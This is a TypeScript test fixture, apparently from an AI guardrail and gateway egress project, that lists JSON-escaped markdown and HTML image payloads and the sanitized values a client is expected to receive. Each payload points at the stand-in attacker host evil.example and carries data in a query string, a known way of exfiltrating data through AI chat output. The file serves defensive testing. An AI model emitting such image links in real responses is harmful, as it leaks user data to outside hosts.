// JSON-channel cases shared by the library test (guardrails/markdown-json.test.ts) and the gateway test
// (gateway/egress/exfil-json.test.ts): markup hidden by JSON escapes the client decodes before it renders the value
// (red team re-check 4, finding 05). [name, JSON text, the parsed value the client must get]
export const ESCAPED_VALUE_CASES: [string, string, Record<string, unknown>][] = [
  ['an image behind \\/ escapes', '{"md":"![x](https:\\/\\/evil.example\\/p.png?d=abc)"}', { md: '\\[image: x\\]' }],
  ['an image behind a \\u escape', '{"md":"![x](\\u0068ttps://evil.example/p.png?d=abc)"}', { md: '\\[image: x\\]' }],
  [
    'an <img> whose attribute quotes are \\" escapes',
    '{"h":"<img src=\\"https://evil.example/p.png?d=abc\\">"}',
    { h: '&lt;img src="https://evil.example/p.png?d=abc">' },
  ],
  [
    'an image inside a code span the JSON text opens across values',
    '{"a":"`x","b":"![i](https://evil.example/p.png?d=abc)","c":"`"}',
    { a: '`x', b: '\\[image: i\\]', c: '`' },
  ],
];
